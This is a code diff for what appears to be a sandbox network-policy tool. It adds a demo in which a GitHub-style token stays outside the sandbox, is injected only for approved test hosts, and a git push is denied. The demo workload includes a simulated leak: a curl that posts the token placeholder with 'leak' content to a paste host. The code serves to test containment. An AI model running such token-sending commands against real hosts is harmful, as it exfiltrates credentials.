@@ -155,7 +155,96 @@ func run(tw string) int {
 	lc.Env = c.Env
 	lc.Run()
 	cmd(tw, "policy", "suggest", learn, "--phase", "exec")
+
+	credentials(ctx, tw, w, dir, ca)
 	return 0
+}
+
+// demoToken stands for a real credential: it lives in tunwall's
+// environment only.
+const demoToken = "ghp_demoRealTokenThatNeverEntersTheSandbox0"
+
+const credsPolicyYAML = `# Credentials stay outside the sandbox: the sandbox holds a placeholder,
+# tunwall puts the token into requests to the one host that should get it.
+version: 1
+secrets:
+  GITHUB_TOKEN: {env: GITHUB_TOKEN}        # read from tunwall's own environment
+phases:
+  exec:
+    allow:
+      - host: api.creds.test               # think: api.github.com
+        inject: [GITHUB_TOKEN]
+      - host: git.creds.test               # think: github.com
+        inject: [GITHUB_TOKEN]
+        http:                              # clone yes, push no
+          - {methods: [GET], paths: ["/repo.git/info/refs"]}
+          - {methods: [POST], paths: ["/repo.git/git-upload-pack"]}
+      - host: paste.creds.test             # think: gist.github.com: allowed, receives no secret
+        http: [{methods: ["*"], paths: ["/**"]}]
+dns:
+  upstream: 192.0.2.53:53
+`
+
+const credsWorkload = `
+export HOME=$(mktemp -d)
+say() { printf '\n\033[1m$ %s\033[0m\n' "$*"; }
+say 'echo $GITHUB_TOKEN                    (what the sandbox holds)'
+echo "$GITHUB_TOKEN"
+say 'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.creds.test/user   (the token is injected for this host)'
+curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.creds.test/user
+say 'curl -H "Authorization: Bearer $GITHUB_TOKEN" -d ... https://paste.creds.test/gists   (the same placeholder to another host)'
+curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" -d '{"content":"leak"}' https://paste.creds.test/gists
+say 'git clone https://x-access-token:$GITHUB_TOKEN@git.creds.test/repo.git   (allowed: the token goes in as Basic credentials)'
+cd "$(mktemp -d)" && git -c init.defaultBranch=main clone -q "https://x-access-token:$GITHUB_TOKEN@git.creds.test/repo.git" r && cat r/README
+say 'git push origin main                    (git-receive-pack: no http rule allows it)'
+cd r && echo x > f && git add f && git -c user.name=a -c user.email=a@b commit -qm x && git push origin main 2>&1 | head -3
+`
+
+// credentials shows a token injected for one host, the same placeholder
+// refused for another, and a git push denied.
+func credentials(ctx context.Context, tw string, w *testworld.World, dir, ca string) {
+	heading("Keeping credentials out of the sandbox: --policy creds.yaml, the token only in tunwall's environment")
+	if _, err := exec.LookPath("git"); err != nil {
+		fmt.Println("(skipped: git is not installed)")
+		return
+	}
+	repo := filepath.Join(dir, "git")
+	os.MkdirAll(repo, 0o755)
+	c, err := w.StartCreds(testworld.CredsOptions{Token: demoToken, RepoDir: repo})
+	if err != nil {
+		fmt.Println("demo:", err)
+		return
+	}
+	pol := filepath.Join(dir, "creds.yaml")
+	os.WriteFile(pol, []byte(credsPolicyYAML), 0o644)
+	fmt.Print(credsPolicyYAML)
+	audit := filepath.Join(dir, "creds.jsonl")
+	rc := w.AgentCommand(ctx, tw, "run", "--policy", pol, "--audit", audit, "--", "sh", "-c", credsWorkload)
+	rc.Env = append(os.Environ(), "GITHUB_TOKEN="+demoToken, "SSL_CERT_FILE="+ca, "HOME="+dir)
+	var out bytes.Buffer
+	rc.Stdout, rc.Stderr = &out, &out
+	rc.Run()
+	fmt.Print(strings.ReplaceAll(out.String(), demoToken, "<THE REAL TOKEN>"))
+
+	heading("What the servers got")
+	real := 0
+	for _, a := range append(c.Auths("api"), c.Auths("git")...) {
+		if strings.Contains(a, demoToken) || strings.Contains(a, "Basic ") {
+			real++
+		}
+	}
+	fmt.Printf("api.creds.test and git.creds.test: %d requests carried the real token (Bearer, and Basic for git)\n", real)
+	fmt.Printf("paste.creds.test: %d requests arrived\n", len(c.Got("paste")))
+	if b, err := os.ReadFile(audit); err == nil {
+		fmt.Printf("the token's value is in the audit log: %v, in the sandbox's output: %v\n", bytes.Contains(b, []byte(demoToken)), strings.Contains(out.String(), demoToken))
+		for _, l := range strings.Split(string(b), "\n") {
+			if strings.Contains(l, `"kind":"http"`) && strings.Contains(l, `"verdict":"deny"`) {
+				fmt.Println("one denied request:", l)
+				break
+			}
+		}
+	}
+	cmd(tw, "policy", "explain", pol, "https://git.creds.test/repo.git/git-receive-pack", "--method", "POST")
 }
 
 // cmd runs tunwall outside any namespace (policy and audit commands need none).
